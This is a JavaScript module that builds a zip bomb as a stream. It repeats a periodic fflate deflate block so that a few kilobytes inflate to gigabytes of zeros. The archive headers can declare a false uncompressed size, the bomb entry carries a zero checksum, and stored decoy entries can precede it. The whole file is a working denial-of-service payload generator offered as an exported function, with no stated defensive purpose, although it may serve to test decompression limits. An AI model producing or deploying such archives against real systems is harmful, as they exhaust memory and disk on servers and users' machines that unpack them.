// A zip bomb made as a stream: fflate deflates zeros at level 9 with a sync
// flush after each MiB, and from the third MiB on each flush's bytes are the
// same, so a few MiB of real compression repeated gives any number of GiB of
// inflated zeros in about 1 KiB per MiB, without ever holding them.
import { Deflate } from "fflate";

const MIB = 1 << 20;

function periodicDeflate() {
  const zeros = new Uint8Array(MIB);
  const per = [];
  let cur = [];
  const d = new Deflate({ level: 9 }, (c) => cur.push(c.slice()));
  for (let i = 0; i < 4; i++) {
    d.push(zeros, false);
    d.flush(true);
    const n = cur.reduce((a, c) => a + c.length, 0);
    const b = new Uint8Array(n);
    cur.reduce((o, c) => (b.set(c, o), o + c.length), 0);
    per.push(b);
    cur = [];
  }
  const same = (a, b) => a.length === b.length && a.every((x, i) => x === b[i]);
  if (!same(per[2], per[3])) throw new Error("fflate's flushed output is no longer periodic: the bomb needs another recipe");
  return { head: [per[0], per[1]], period: per[2] };
}

function header(sig, size) {
  const b = new Uint8Array(size);
  new DataView(b.buffer).setUint32(0, sig, true);
  return b;
}

/**
 * A zip of one deflated entry `name` that inflates to `mib` MiB of zeros and
 * whose headers declare `declaredSize` bytes, preceded by `entries` (stored,
 * name → bytes). Yields its bytes in pieces.
 */
export async function* bombZip({ name, mib, declaredSize, entries = [] }) {
  const { head, period } = periodicDeflate();
  const final = new Uint8Array([3, 0]); // an empty final fixed-Huffman block
  const compressedSize = head[0].length + head[1].length + (mib - 2) * period.length + final.length;
  const enc = new TextEncoder();
  const central = [];
  let at = 0;
  const all = [...entries.map(([n, data]) => ({ n, data, method: 0, size: data.length, csize: data.length, crc: 0 })), { n: name, method: 8, size: declaredSize, csize: compressedSize, crc: 0 }];
  for (const e of all) {
    const nb = enc.encode(e.n);
    const crc = e.data ? crc32(e.data) : 0;
    const local = header(0x04034b50, 30 + nb.length);
    const lv = new DataView(local.buffer);
    lv.setUint16(4, 20, true);
    lv.setUint16(8, e.method, true);
    lv.setUint32(14, crc, true);
    lv.setUint32(18, e.csize, true);
    lv.setUint32(22, e.size, true);
    lv.setUint16(26, nb.length, true);
    local.set(nb, 30);
    const cd = header(0x02014b50, 46 + nb.length);
    const cv = new DataView(cd.buffer);
    cv.setUint16(4, 20, true);
    cv.setUint16(6, 20, true);
    cv.setUint16(10, e.method, true);
    cv.setUint32(16, crc, true);
    cv.setUint32(20, e.csize, true);
    cv.setUint32(24, e.size, true);
    cv.setUint16(28, nb.length, true);
    cv.setUint32(42, at, true);
    cd.set(nb, 46);
    central.push(cd);
    yield local;
    if (e.data) yield e.data;
    else {
      yield head[0];
      yield head[1];
      for (let i = 2; i < mib; i += 64) {
        const n = Math.min(64, mib - i);
        const b = new Uint8Array(n * period.length);
        for (let k = 0; k < n; k++) b.set(period, k * period.length);
        yield b;
      }
      yield final;
    }
    at += local.length + e.csize;
  }
  let cdSize = 0;
  for (const c of central) {
    cdSize += c.length;
    yield c;
  }
  const eocd = header(0x06054b50, 22);
  const ev = new DataView(eocd.buffer);
  ev.setUint16(8, all.length, true);
  ev.setUint16(10, all.length, true);
  ev.setUint32(12, cdSize, true);
  ev.setUint32(16, at, true);
  yield eocd;
}

function crc32(b) {
  let c = ~0;
  for (let i = 0; i < b.length; i++) {
    c ^= b[i];
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  }
  return ~c >>> 0;
}
